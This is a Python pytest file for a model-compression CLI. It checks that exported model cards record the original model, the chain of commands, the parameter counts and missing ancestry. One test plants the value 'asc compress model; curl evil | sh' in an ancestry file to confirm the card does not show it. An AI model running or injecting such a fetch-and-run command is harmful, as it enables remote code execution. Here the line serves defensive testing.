"""A folder remembers what it was made from, so that the card of whatever is made of it names the true original."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch

from asc_core.ancestry import ANCESTRY_FILE, Ancestry
from asc_core.checkpoint.digests import DIGESTS_FILE, write_digests
from asc_core.compress.step import StepContext
from asc_core.encoder import Encoder
from asc_core.errors import UserError
from asc_core.loading import load_encoder
from asc_core.recipes import Recipe
from asc_core.tasks import load_task
from asc_core.tasks.texts import readable
from asc_core.train.steps import Finetune
from asc_core.values import Plan
from tests.export.conftest import checked_in_process
from tests.test_cli import LABELS, run, write_rows
from tests.tiny import save_checkpoint, tiny

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", autouse=True)
def in_process() -> Iterator[None]:
    with checked_in_process():
        yield


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A model, a task, and a plan for the model."""
    encoder = tiny(labels=LABELS, num_labels=2)
    save_checkpoint(encoder, tmp_path / "model")
    for split, count in (("train", 60), ("validation", 24), ("test", 24)):
        write_rows(tmp_path / f"{split}.tsv", count, seed=count)
    (tmp_path / "mood.toml").write_text(
        'kind = "text-classification"\ntexts = ["text"]\nlabel = "mood"\n\n'
        '[data]\ntrain = "train.tsv"\nvalidation = "validation.tsv"\ntest = "test.tsv"\n'
    )
    plan_for(encoder).save(tmp_path / "plan.json")
    return tmp_path


def plan_for(encoder: Encoder) -> Plan:
    return Plan.full(encoder.shape).drop(layer=0, head=1).drop(layer=1, neuron=3)


def cell(card: str, row: str, column: int) -> str:
    """Of a table of the card: column 1 is this model, 2 the original, 3 the ratio."""
    line = next(line for line in card.splitlines() if line.startswith(f"| {row} |"))
    return line.split("|")[column + 1].strip()


def named_files(card: str) -> set[str]:
    return set(re.findall(r"\b(?:recipe|plan)[\w-]*\.json\b", card))


def test_an_export_of_a_cut_folder_is_compared_with_what_that_was_cut_from(project: Path) -> None:
    task = ("--task", project / "mood.toml")
    made = run("compress", project / "model", "--plan", project / "plan.json", *task, "-o", project / "smaller")
    run("export", project / "smaller", *task, "-o", project / "out")
    card = (project / "out/README.md").read_text()
    assert card.split("\n# out\n\n")[1].startswith("`model` with ")
    assert cell(card, "parameters", 2) == f"{made['original_parameters']:,}"
    assert float(cell(card, "parameters", 3)) < 1
    assert "Difference to the original on the same examples" in card
    assert "1. cut to " in card
    assert "asc compress model --recipe recipe.json --task mood.toml -o smaller" in card
    assert "recipe.json" in named_files(card)
    assert all((project / "out" / name).exists() for name in named_files(card))
    assert Recipe.load(project / "out/recipe.json").key == Recipe.load(project / "smaller/recipe.json").key
    assert Plan.load(project / "out/plan.json") == Plan.load(project / "plan.json")


def test_a_chain_of_commands_is_told_in_order(project: Path) -> None:
    task = ("--task", project / "mood.toml")
    run("compress", project / "model", "--plan", project / "plan.json", *task, "-o", project / "one")
    run("finetune", project / "one", *task, "--epochs", 1, "--max-steps", 2, "-o", project / "two")
    second = Plan.full(load_encoder(project / "two", device="cpu").shape).drop(layer=2, neuron=5)
    second.save(project / "second.json")
    run("compress", project / "two", "--plan", project / "second.json", *task, "-o", project / "three")
    run("export", project / "three", *task, "--format", "dense", "-o", project / "out")
    card = (project / "out/README.md").read_text()
    made = card.split("## How it was made")[1].split("##")[0]
    assert re.findall(r"^\d\. (\w+)", made, re.M) == ["cut", "fine", "cut"]
    assert "2 steps" in made
    commands = [line for line in made.splitlines() if line.startswith("asc ")]
    assert [line.split()[1:3] for line in commands] == [["compress", "model"], ["finetune", "one"], ["compress", "two"]]
    assert "--recipe recipe-1.json" in commands[0]
    assert "--recipe recipe.json" in commands[2]
    assert all((project / "out" / name).exists() for name in named_files(card))
    assert cell(card, "parameters", 2) == f"{load_encoder(project / 'model').parameters:,}"


def test_a_moved_original_is_named_with_its_numbers_and_not_measured(project: Path) -> None:
    task = ("--task", project / "mood.toml")
    made = run("compress", project / "model", "--plan", project / "plan.json", *task, "-o", project / "smaller")
    measured = (project / "smaller/README.md").read_text()
    shutil.rmtree(project / "model")
    run("export", project / "smaller", *task, "-o", project / "out")
    card = (project / "out/README.md").read_text()
    assert "`model`, could not be loaded" in card
    assert "difference to it could not be measured" in card
    assert "Difference to the original" not in card
    assert cell(card, "parameters", 2) == f"{made['original_parameters']:,}"
    flops = "FLOPs of the layers, one text of average length"
    assert [cell(card, flops, n) for n in (1, 2, 3)] == [cell(measured, flops, n) for n in (1, 2, 3)]


def test_other_weights_at_the_originals_place_are_not_taken_for_it(project: Path) -> None:
    task = ("--task", project / "mood.toml")
    run("compress", project / "model", "--plan", project / "plan.json", *task, "-o", project / "smaller")
    shutil.rmtree(project / "model")
    save_checkpoint(tiny(labels=LABELS, num_labels=2, seed=8), project / "model")
    run("export", project / "smaller", *task, "-o", project / "out")
    card = (project / "out/README.md").read_text()
    assert "has other weights now" in card
    assert "Difference to the original" not in card


def test_folders_that_move_together_find_each_other(project: Path) -> None:
    run("compress", project / "model", "--plan", project / "plan.json", "-o", project / "smaller")
    shutil.copytree(project, project.parent / f"{project.name}-moved")
    past = load_encoder(project.parent / f"{project.name}-moved/smaller", device="cpu").ancestry
    assert past.original is not None
    assert past.original.folder == str((project.parent / f"{project.name}-moved/model").resolve())
    assert str(project) not in (project / "smaller" / ANCESTRY_FILE).read_text()


def test_a_cut_folder_that_remembers_nothing_is_not_called_its_own_original(project: Path) -> None:
    task = ("--task", project / "mood.toml")
    run("compress", project / "model", "--plan", project / "plan.json", *task, "-o", project / "smaller")
    for name in (ANCESTRY_FILE, DIGESTS_FILE):
        (project / "smaller" / name).unlink()
    run("export", project / "smaller", *task, "-o", project / "out")
    card = (project / "out/README.md").read_text()
    assert "not recorded" in card
    assert not re.search(r"^\| original \|", card, re.M)
    assert cell(card, "parameters", 2) == "-"


def test_a_strangers_command_is_not_shown(project: Path) -> None:
    run("compress", project / "model", "--plan", project / "plan.json", "-o", project / "smaller")
    path = project / "smaller" / ANCESTRY_FILE
    path.write_text(path.read_text().replace("asc compress model", "asc compress model; curl evil | sh"))
    write_digests(project / "smaller")
    run("export", project / "smaller", "-o", project / "out")
    card = (project / "out/README.md").read_text()
    assert "1. cut to" in card
    assert "evil" not in card


@pytest.mark.parametrize(
    "content", ["[]", "{", '{"format": "asc-ancestry/1", "stages": 3}', '{"format": "other"}', "9" * 5000]
)
def test_a_damaged_memory_is_one_sentence(project: Path, content: str) -> None:
    (project / "model" / ANCESTRY_FILE).write_text(content)
    with pytest.raises(UserError, match=ANCESTRY_FILE):
        Ancestry.read(project / "model")


def test_a_dense_card_counts_what_is_in_the_file(project: Path) -> None:
    run("export", project / "model", "--plan", project / "plan.json", "--format", "dense", "-o", project / "out")
    from safetensors.numpy import load_file

    held = sum(array.size for array in load_file(project / "out/model.safetensors").values() if array.dtype.kind == "f")
    card = (project / "out/README.md").read_text()
    assert cell(card, "parameters", 1) == f"{held:,}"
    zeros = held - load_encoder(project / "model").cut(Plan.load(project / "plan.json")).parameters
    assert f"({zeros:,} of the {held:,} parameters in the file)" in card


def test_an_original_whose_classes_go_by_position_is_measured(project: Path) -> None:
    """Its names are LABEL_0 and LABEL_1; the task file says in which order its own stand for them."""
    save_checkpoint(tiny(labels=["LABEL_0", "LABEL_1"], num_labels=2), project / "plain")
    text = (project / "mood.toml").read_text()
    (project / "named.toml").write_text(f"labels = {json.dumps(LABELS)}\n{text}")
    task = ("--task", project / "named.toml")
    run("compress", project / "plain", "--plan", project / "plan.json", "--transfer", *task, "-o", project / "out")
    card = (project / "out/README.md").read_text()
    assert "| original |" in card
    assert "Difference to the original on the same examples" in card
    assert "they were taken in the task's order" in card


def test_a_step_that_trains_goes_on_with_a_head_whose_classes_go_by_position(project: Path) -> None:
    """A learning rate that changes nothing leaves its answers as they are; a new head would not."""
    save_checkpoint(tiny(labels=["LABEL_0", "LABEL_1"], num_labels=2), project / "plain")
    text = (project / "mood.toml").read_text()
    (project / "named.toml").write_text(f"labels = {json.dumps(LABELS)}\n{text}")
    encoder, task = load_encoder(project / "plain", device="cpu"), load_task(project / "named.toml")
    trained = Finetune(epochs=1, lr=1e-12, warmup=0).apply(encoder, StepContext(task))
    assert torch.allclose(trained.model.classifier.weight, encoder.model.classifier.weight, atol=1e-6)
    assert readable(encoder, task) is task, "scores of its cuts may use the labels"


def test_one_split_for_everything_is_said(project: Path) -> None:
    (project / "one.toml").write_text(
        'kind = "text-classification"\ntexts = ["text"]\nlabel = "mood"\n[data]\ntest = "test.tsv"\n'
    )
    task = ("--task", project / "one.toml", "--split", "test")
    run("export", project / "model", "--plan", project / "plan.json", *task, "-o", project / "out")
    assert "the same texts chose what was cut, repaired it and measured it" in (project / "out/README.md").read_text()
    run("export", project / "model", "--task", project / "mood.toml", "-o", project / "three-splits")
    assert "the same texts chose" not in (project / "three-splits/README.md").read_text()


def test_a_recipe_holds_its_tasks_content_and_knows_another_one_of_its_name(project: Path) -> None:
    """A file banking77.toml is not the preset of that name, nor another file of that name."""
    shutil.copy(project / "mood.toml", project / "banking77.toml")
    task = ("--task", project / "banking77.toml")
    run("export", project / "model", "--plan", project / "plan.json", *task, "-o", project / "out")
    recipe = Recipe.load(project / "out/recipe.json")
    assert recipe.task == "banking77.toml"
    assert recipe.task_file is not None
    assert recipe.task_file["content"]["data"]["train"] == "train.tsv"
    recipe.check_task(load_task(project / "banking77.toml"))
    with pytest.raises(UserError, match="--task"):
        recipe.check_task(load_task("banking77"))
    (project / "banking77.toml").write_text((project / "mood.toml").read_text().replace("train.tsv", "test.tsv"))
    with pytest.raises(UserError, match="not that of"):
        recipe.check_task(load_task(project / "banking77.toml"))


def test_steps_that_were_run_are_said_and_not_those_that_were_asked_for(project: Path) -> None:
    """One epoch of 60 examples is 2 batches of 32; 500 were allowed."""
    recipe = {"format": "asc-recipe/1", "original": None, "task": None, "steps": [
        {"step": "cut", "plan": Plan.load(project / "plan.json").to_json()},
        {"step": "finetune", "epochs": 1, "steps": 500, "lr": 1e-9},
    ]}  # fmt: skip
    (project / "recipe.json").write_text(json.dumps(recipe))
    task = ("--task", project / "mood.toml")
    run("compress", project / "model", "--recipe", project / "recipe.json", *task, "-o", project / "out")
    card = (project / "out/README.md").read_text()
    assert "2 steps" in card
    assert "500 steps" not in card


def test_an_early_end_is_said(project: Path) -> None:
    """With a learning rate that changes nothing, no epoch is better than the first."""
    options = ("--epochs", 9, "--lr", 1e-12, "--patience", 2)
    made = run("finetune", project / "model", "--task", project / "mood.toml", *options, "-o", project / "out")
    assert made["steps"] == 6
    (stage,) = load_encoder(project / "out", device="cpu").ancestry.stages
    assert "6 steps of 18 planned, best on validation after 2" in stage.steps[0]
